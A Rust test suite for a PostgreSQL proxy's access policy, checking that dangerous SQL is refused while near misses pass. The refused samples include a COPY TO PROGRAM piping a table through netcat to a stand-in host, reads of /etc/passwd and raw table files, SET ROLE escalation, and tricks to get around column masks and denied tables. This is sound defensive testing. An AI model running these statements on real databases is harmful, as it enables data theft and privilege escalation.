//! The policy matrix: for each rule, a statement it must refuse and a near
//! miss it must allow, decided on what the PostgreSQL classifier makes of
//! the SQL (as in production).

use super::*;
use crate::proxy::postgres::classify::classify;

fn principal(roles: &[&str]) -> Principal {
    Principal {
        object_id: "oid-1".into(),
        tollgate_roles: roles.iter().map(|r| r.to_string()).collect(),
        ..Principal::default()
    }
}

fn policy(toml_text: &str) -> Policy {
    let config: PolicyConfig = toml::from_str(toml_text).expect("policy toml");
    Policy::new(&config)
}

/// One grant for every caller (`grant`: its lines after `roles`) and a
/// mask of `columns`.
fn masked(grant: &str, columns: &str) -> Policy {
    policy(&format!(
        "[[grant]]\nname = \"g\"\nroles = [\"*\"]\n{grant}\n\n[[mask]]\nname = \"email\"\ncolumns = [\"{columns}\"]\n"
    ))
}

fn decide(policy: &Policy, roles: &[&str], sql: &str) -> Decision {
    let operations = classify(sql);
    policy.decide(
        &principal(roles),
        &Request {
            target: "orders-db",
            operations: &operations,
        },
    )
}

fn denied_by(decision: &Decision) -> Option<&str> {
    match decision {
        Decision::Deny { rule, .. } => Some(rule),
        Decision::Allow { .. } => None,
    }
}

const WRITERS: &str = r#"
[[grant]]
name = "writers"
roles = ["writer"]
kinds = ["read", "write", "ddl", "dcl", "transaction", "utility", "admin"]
deny_tables = ["public.secrets"]
"#;

#[test]
fn every_dangerous_rule_refuses_and_its_near_miss_passes() {
    let policy = policy(WRITERS);
    for (rule, refused, near_miss) in [
        (
            "dangerous:drop",
            "DROP TABLE customers",
            "CREATE TABLE scratch (id int)",
        ),
        (
            "dangerous:truncate",
            "TRUNCATE customers",
            "DELETE FROM customers WHERE id = 1",
        ),
        (
            "dangerous:alter",
            "ALTER TABLE customers DROP COLUMN email",
            "CREATE INDEX ON customers (email)",
        ),
        (
            "dangerous:grant_revoke",
            "GRANT ALL ON customers TO PUBLIC",
            "SELECT * FROM customers",
        ),
        (
            "dangerous:delete_without_where",
            "DELETE FROM customers",
            "DELETE FROM customers WHERE id = 3",
        ),
        (
            "dangerous:update_without_where",
            "UPDATE customers SET name = 'x'",
            "UPDATE customers SET name = 'x' WHERE id = 1",
        ),
        (
            "dangerous:copy_program",
            "COPY customers TO PROGRAM 'nc evil 1'",
            "COPY customers TO STDOUT",
        ),
        (
            "dangerous:file_or_program_function",
            "SELECT pg_read_file('/etc/passwd')",
            "SELECT upper('/etc/passwd')",
        ),
        (
            "dangerous:set_role",
            "SET ROLE postgres",
            "SET statement_timeout = 1000",
        ),
        (
            "dangerous:opaque_routine",
            "CREATE FUNCTION f() RETURNS int LANGUAGE plpgsql AS $$ BEGIN RETURN 1; END $$",
            "CREATE FUNCTION f() RETURNS int LANGUAGE sql BEGIN ATOMIC SELECT 1; END",
        ),
        (
            "deny_tables",
            "SELECT * FROM secrets",
            "SELECT * FROM secrets_public_view",
        ),
    ] {
        assert_eq!(
            denied_by(&decide(&policy, &["writer"], refused)),
            Some(format!("writers:{rule}").as_str()),
            "{refused}"
        );
        assert_eq!(
            denied_by(&decide(&policy, &["writer"], near_miss)),
            None,
            "{near_miss}"
        );
    }
}

#[test]
fn kinds_are_limited_per_grant() {
    let policy = policy(
        r#"
[[grant]]
name = "readers"
roles = ["reader"]
kinds = ["read", "transaction"]
read_tables = ["public.*"]
"#,
    );
    assert_eq!(
        denied_by(&decide(&policy, &["reader"], "SELECT * FROM customers")),
        None
    );
    assert_eq!(denied_by(&decide(&policy, &["reader"], "BEGIN")), None);
    assert_eq!(
        denied_by(&decide(
            &policy,
            &["reader"],
            "INSERT INTO customers VALUES (9)"
        )),
        Some("readers:kind:write")
    );
    assert_eq!(
        denied_by(&decide(&policy, &["reader"], "SELECT * FROM hr.salaries")),
        Some("readers:read_tables")
    );
    // One refused statement refuses the whole request.
    assert_eq!(
        denied_by(&decide(
            &policy,
            &["reader"],
            "SELECT 1; DELETE FROM customers WHERE id = 1"
        )),
        Some("readers:kind:write")
    );
}

#[test]
fn write_tables_limit_writes_only() {
    let policy = policy(
        r#"
[[grant]]
name = "loader"
roles = ["loader"]
kinds = ["read", "write"]
write_tables = ["staging.*"]
"#,
    );
    assert_eq!(
        denied_by(&decide(
            &policy,
            &["loader"],
            "INSERT INTO staging.rows SELECT * FROM public.customers"
        )),
        None
    );
    assert_eq!(
        denied_by(&decide(
            &policy,
            &["loader"],
            "INSERT INTO public.customers VALUES (1)"
        )),
        Some("loader:write_tables")
    );
}

#[test]
fn unparsed_sql_is_refused_unless_allowed() {
    let strict = policy(WRITERS);
    assert_eq!(
        denied_by(&decide(&strict, &["writer"], "SELEKT 1")),
        Some("writers:unparsed")
    );
    let lenient = policy(
        r#"
[[grant]]
name = "raw"
roles = ["*"]
allow_unparsed = true
"#,
    );
    assert_eq!(denied_by(&decide(&lenient, &[], "SELEKT 1")), None);
}

#[test]
fn without_a_matching_grant_nothing_is_allowed() {
    let none = policy("");
    assert_eq!(
        denied_by(&decide(&none, &["writer"], "SELECT 1")),
        Some("no-grant")
    );
    let writers = policy(WRITERS);
    assert_eq!(
        denied_by(&decide(&writers, &["someone-else"], "SELECT 1")),
        Some("no-grant")
    );
}

#[test]
fn any_of_several_grants_may_allow() {
    let policy = policy(
        r#"
[[grant]]
name = "readers"
roles = ["reader"]

[[grant]]
name = "cleanup"
roles = ["janitor"]
kinds = ["write"]
allow_dangerous = ["delete_without_where"]
write_tables = ["public.scratch"]
"#,
    );
    assert_eq!(
        denied_by(&decide(
            &policy,
            &["reader", "janitor"],
            "DELETE FROM scratch"
        )),
        None
    );
    assert_eq!(
        denied_by(&decide(&policy, &["reader"], "DELETE FROM scratch")),
        Some("readers:kind:write")
    );
    // One grant must allow every statement of a request: a read one grant
    // allows and a delete another allows do not add up.
    assert!(denied_by(&decide(
        &policy,
        &["reader", "janitor"],
        "SELECT 1; DELETE FROM scratch"
    ))
    .is_some());
}

/// A table one applicable grant denies stays denied when another grant
/// would allow the statement (the shape of deploy/tollgate.toml: a writer
/// holds both the readers' and the writers' grants).
#[test]
fn a_denied_table_stays_denied_whatever_another_grant_allows() {
    let policy = policy(
        r#"
[[grant]]
name = "readers"
roles = ["reader", "writer"]
read_tables = ["public.*"]
deny_tables = ["public.secrets"]

[[grant]]
name = "writers"
roles = ["writer"]
kinds = ["read", "write"]
write_tables = ["public.orders"]

[[grant]]
name = "raw"
roles = ["raw"]
allow_unparsed = true
"#,
    );
    for sql in [
        "SELECT * FROM secrets",
        "SELECT o.id FROM orders o JOIN public.secrets s ON s.id = o.id",
        "INSERT INTO orders SELECT * FROM secrets",
    ] {
        assert_eq!(
            denied_by(&decide(&policy, &["writer"], sql)),
            Some("readers:deny_tables"),
            "{sql}"
        );
    }
    // Near misses: the other grant still allows what no deny touches.
    assert_eq!(
        denied_by(&decide(&policy, &["writer"], "SELECT * FROM orders")),
        None
    );
    assert_eq!(
        denied_by(&decide(
            &policy,
            &["writer"],
            "INSERT INTO orders VALUES (1)"
        )),
        None
    );
    // Raw SQL cannot be shown to leave the denied table alone.
    assert_eq!(
        denied_by(&decide(&policy, &["reader", "raw"], "SELEC * FROM secrets")),
        Some("readers:deny_tables")
    );
    assert_eq!(
        denied_by(&decide(&policy, &["raw"], "SELEC * FROM secrets")),
        None
    );
}

#[test]
fn a_masked_caller_cannot_run_what_the_parser_cannot_read() {
    let policy = masked("allow_unparsed = true", "public.customers.email");
    assert_eq!(
        denied_by(&decide(&policy, &[], "COPY weird syntax TO STDOUT (")),
        Some("mask:unparsed")
    );
    assert_eq!(denied_by(&decide(&policy, &[], "SELECT 1")), None);
}

/// COPY streams raw: for a masked caller it is refused when it could carry
/// a masked column (the table, or a query calling a function that is not
/// a known built-in), and allowed otherwise.
#[test]
fn a_masked_caller_cannot_copy_what_could_carry_masked_columns() {
    let policy = masked("kinds = [\"read\"]", "public.customers.email");
    for sql in [
        "COPY customers TO STDOUT",
        "COPY (SELECT email_of(1)) TO STDOUT",
    ] {
        assert_eq!(
            denied_by(&decide(&policy, &[], sql)),
            Some("mask:raw_stream"),
            "{sql}"
        );
    }
    for sql in ["COPY orders TO STDOUT", "COPY (SELECT version()) TO STDOUT"] {
        assert_eq!(denied_by(&decide(&policy, &[], sql)), None, "{sql}");
    }
    // Patterns whose `*` runs across the table name's end cover the
    // table as well: every column of the schema, a column-name suffix.
    for columns in ["public.*", "*email", "public.customers*"] {
        let wildcard = masked("kinds = [\"read\"]", columns);
        assert_eq!(
            denied_by(&decide(&wildcard, &[], "COPY customers TO STDOUT")),
            Some("mask:raw_stream"),
            "{columns}"
        );
    }
}

/// Even a grant that allows file and program functions does not open a
/// way around masks and `deny_tables`: dblink runs SQL given as text (not
/// understood: `mask:unparsed` for a masked caller, refused by any
/// `deny_tables`), and a raw file may be any table's, so a COPY of one is
/// a raw stream of a possibly masked table and `deny_tables` refuses it.
#[test]
fn file_and_dblink_functions_do_not_get_around_masks_or_denied_tables() {
    let policy = masked(
        "kinds = [\"read\"]\nallow_dangerous = [\"file_or_program_function\"]",
        "public.customers.email",
    );
    for sql in [
        "SELECT dblink_build_sql_insert('customers', '1', 1, '{42}', '{42}')",
        "SELECT * FROM dblink('dbname=app', 'SELECT email FROM customers') AS t(email text)",
    ] {
        assert_eq!(
            denied_by(&decide(&policy, &[], sql)),
            Some("mask:unparsed"),
            "{sql}"
        );
    }
    assert_eq!(
        denied_by(&decide(
            &policy,
            &[],
            "COPY (SELECT pg_read_binary_file('base/16384/16390')) TO STDOUT"
        )),
        Some("mask:raw_stream")
    );
    let denying = self::policy(
        r#"
[[grant]]
name = "files"
roles = ["*"]
kinds = ["read"]
allow_dangerous = ["file_or_program_function"]
deny_tables = ["public.secrets"]
"#,
    );
    assert_eq!(
        denied_by(&decide(
            &denying,
            &[],
            "SELECT pg_read_binary_file('base/16384/16390')"
        )),
        Some("files:deny_tables")
    );
    assert_eq!(
        denied_by(&decide(&denying, &[], "SELECT pg_ls_dir('.')")),
        None
    );
}

/// A caller with masked columns may not define routines (one could hand
/// out their values under a name its calls do not show); without masks,
/// the grant decides.
#[test]
fn a_masked_caller_may_not_define_routines() {
    let with = |mask: &str| {
        policy(&format!(
            r#"
[[grant]]
name = "builders"
roles = ["*"]
kinds = ["read", "ddl"]
{mask}
"#
        ))
    };
    let create = "CREATE FUNCTION f() RETURNS int LANGUAGE sql RETURN 1";
    let masked = with("[[mask]]\nname = \"email\"\ncolumns = [\"public.customers.email\"]");
    assert_eq!(
        denied_by(&decide(&masked, &[], create)),
        Some("mask:routine")
    );
    assert_eq!(denied_by(&decide(&with(""), &[], create)), None);
}

/// A caller with masked columns may not move names onto other data
/// (masks follow names, resolved once per session): renaming the schema of
/// a masked column would unmask it for every later session too. Without
/// masks, the grant decides.
#[test]
fn a_masked_caller_may_not_move_names() {
    let with = |mask: &str| {
        policy(&format!(
            r#"
[[grant]]
name = "owners"
roles = ["*"]
kinds = ["read", "ddl", "admin"]
allow_dangerous = ["alter", "set_role"]
{mask}
"#
        ))
    };
    let masked = with("[[mask]]\nname = \"ssn\"\ncolumns = [\"hr.people.ssn\"]");
    let unmasked = with("");
    for sql in [
        "ALTER SCHEMA hr RENAME TO hx",
        "ALTER TABLE hr.people RENAME COLUMN ssn TO s",
        "CREATE OR REPLACE VIEW public.v AS SELECT ssn FROM hr.people",
        "SET search_path = hr",
    ] {
        assert_eq!(
            denied_by(&decide(&masked, &[], sql)),
            Some("mask:names"),
            "{sql}"
        );
        assert_eq!(denied_by(&decide(&unmasked, &[], sql)), None, "{sql}");
    }
    assert_eq!(denied_by(&decide(&masked, &[], "SELECT 1")), None);
}

/// A caller with masked columns may not set a setting to a value the
/// statement computes: the value (a masked column's, copied in) would come
/// back unmasked through `current_setting` or `SHOW`, which read no masked
/// table. A literal value carries nothing read; without masks the grant
/// decides.
#[test]
fn a_masked_caller_may_not_copy_values_into_settings() {
    let with = |mask: &str| {
        policy(&format!(
            r#"
[[grant]]
name = "tenants"
roles = ["*"]
kinds = ["read"]
allow_dangerous = ["file_or_program_function"]
{mask}
"#
        ))
    };
    let masked = with("[[mask]]\nname = \"email\"\ncolumns = [\"public.customers.email\"]");
    let unmasked = with("");
    for sql in [
        "SELECT set_config('tg.x', email, false) FROM public.customers WHERE id = 1",
        "SELECT set_config('app.tenant', (SELECT email FROM customers LIMIT 1), true)",
    ] {
        assert_eq!(
            denied_by(&decide(&masked, &[], sql)),
            Some("mask:settings"),
            "{sql}"
        );
        assert_eq!(denied_by(&decide(&unmasked, &[], sql)), None, "{sql}");
    }
    assert_eq!(
        denied_by(&decide(
            &masked,
            &[],
            "SELECT set_config('app.tenant', 'acme', false)"
        )),
        None
    );
}

/// Changing client_encoding is refused whatever the grants allow: with
/// another encoding the server would run a statement other than the one
/// tollgate read and decided.
#[test]
fn no_grant_can_change_the_client_encoding() {
    let policy = policy(
        r#"
[[grant]]
name = "everything"
roles = ["root"]
kinds = ["read", "write", "ddl", "dcl", "transaction", "utility", "admin"]
allow_unparsed = true
allow_dangerous = ["drop", "truncate", "alter", "grant_revoke", "delete_without_where", "update_without_where", "copy_program", "file_or_program_function", "set_role", "opaque_routine"]
"#,
    );
    for sql in [
        "SET NAMES 'SJIS'",
        "SET client_encoding = 'SJIS'",
        "SELECT set_config('client_encoding', 'SJIS', false)",
        "SELECT 1; SET client_encoding TO 'BIG5'",
    ] {
        assert_eq!(
            denied_by(&decide(&policy, &["root"], sql)),
            Some("encoding:client_encoding"),
            "{sql}"
        );
    }
    // Nor standard_conforming_strings: the server would read a statement
    // pipelined behind the change with it off, before tollgate saw the
    // change reported.
    for sql in [
        "SET standard_conforming_strings = off",
        "SELECT set_config('standard_conforming_strings', 'off', false)",
    ] {
        assert_eq!(
            denied_by(&decide(&policy, &["root"], sql)),
            Some("encoding:standard_conforming_strings"),
            "{sql}"
        );
    }
    for sql in [
        "SET application_name = 'x'",
        "SELECT set_config('application_name', 'x', false)",
        "SHOW client_encoding",
        "SET standard_conforming_strings = on",
    ] {
        assert_eq!(denied_by(&decide(&policy, &["root"], sql)), None, "{sql}");
    }
}

/// A statement of another kind that changes rows needs writes allowed
/// too: DDL around a data-modifying CTE ran the DELETE under a grant of
/// reads and DDL only.
#[test]
fn a_statement_that_changes_rows_needs_writes_whatever_its_kind() {
    let policy = policy(
        r#"
[[grant]]
name = "builders"
roles = ["builder"]
kinds = ["read", "ddl"]
allow_dangerous = ["alter"]
"#,
    );
    for sql in [
        "CREATE TABLE scratch.t AS WITH d AS (DELETE FROM public.orders WHERE id > 0 RETURNING id) SELECT * FROM d",
        "CREATE TABLE scratch.t AS SELECT * FROM public.orders FOR UPDATE",
        "CREATE TABLE scratch.t AS SELECT nextval('public.order_ids')",
    ] {
        assert_eq!(
            denied_by(&decide(&policy, &["builder"], sql)),
            Some("builders:kind:write"),
            "{sql}"
        );
    }
    for sql in [
        "CREATE TABLE scratch.t AS SELECT * FROM public.orders",
        // pg_dump's and migrations' defaults are stored, not run.
        "ALTER TABLE ONLY scratch.t ALTER COLUMN id SET DEFAULT nextval('scratch.t_id_seq'::regclass)",
    ] {
        assert_eq!(denied_by(&decide(&policy, &["builder"], sql)), None, "{sql}");
    }
}

/// A denied table cannot be reached through another name: renaming it
/// with ALTER INDEX, renaming or dropping its schema, or a CASCADE that
/// empties or drops what refers to a table the text names, and a child
/// table's rows show in its parent; a foreign key reads its table.
#[test]
fn a_denied_table_is_not_reached_through_another_name() {
    let policy = policy(
        r#"
[[grant]]
name = "writers"
roles = ["writer"]
kinds = ["read", "write", "ddl", "dcl", "transaction", "utility", "admin"]
deny_tables = ["hr.salaries"]
allow_dangerous = ["truncate", "drop", "alter"]
"#,
    );
    for sql in [
        "ALTER INDEX hr.salaries RENAME TO pay",
        "ALTER SCHEMA hr RENAME TO x",
        "ALTER SCHEMA hr OWNER TO bob",
        "DROP SCHEMA hr CASCADE",
        "TRUNCATE public.scratch CASCADE",
        "DROP TABLE public.scratch CASCADE",
        "CREATE TABLE public.pad (x text) INHERITS (hr.salaries)",
        "CREATE TABLE public.probe (k int REFERENCES hr.salaries(id))",
        "CREATE TABLE public.probe (k int, FOREIGN KEY (k) REFERENCES hr.salaries(id))",
        "ALTER TABLE public.probe ADD CONSTRAINT f FOREIGN KEY (k) REFERENCES hr.salaries(id)",
        "ALTER TABLE public.probe ADD COLUMN k int REFERENCES hr.salaries(id)",
        "CREATE TABLE public.p PARTITION OF hr.salaries DEFAULT",
        "ALTER TABLE public.parted ATTACH PARTITION hr.salaries DEFAULT",
    ] {
        assert_eq!(
            denied_by(&decide(&policy, &["writer"], sql)),
            Some("writers:deny_tables"),
            "{sql}"
        );
    }
    for sql in [
        "ALTER SCHEMA sales RENAME TO x",
        "TRUNCATE public.scratch",
        "CREATE TABLE public.pad (x text) INHERITS (public.scratch)",
    ] {
        assert_eq!(denied_by(&decide(&policy, &["writer"], sql)), None, "{sql}");
    }
    // A grant whose writes name tables does not cover tables the text
    // does not name, nor a whole schema it does not cover.
    let narrow = policy_of_writes(r#"["public.scratch", "public.pad"]"#);
    for sql in [
        "TRUNCATE public.scratch CASCADE",
        "ALTER SCHEMA public RENAME TO x",
    ] {
        assert_eq!(
            denied_by(&decide(&narrow, &["writer"], sql)),
            Some("narrow:write_tables"),
            "{sql}"
        );
    }
    assert_eq!(
        denied_by(&decide(&narrow, &["writer"], "TRUNCATE public.scratch")),
        None
    );
    // Every table, however it is spelled, covers tables the text does not
    // name.
    let every = policy_of_writes(r#"["*.*"]"#);
    assert_eq!(
        denied_by(&decide(
            &every,
            &["writer"],
            "TRUNCATE public.scratch CASCADE"
        )),
        None
    );
}

fn policy_of_writes(write_tables: &str) -> Policy {
    policy(&format!(
        r#"
[[grant]]
name = "narrow"
roles = ["writer"]
kinds = ["read", "write", "ddl", "admin"]
write_tables = {write_tables}
allow_dangerous = ["truncate", "drop", "alter"]
"#
    ))
}
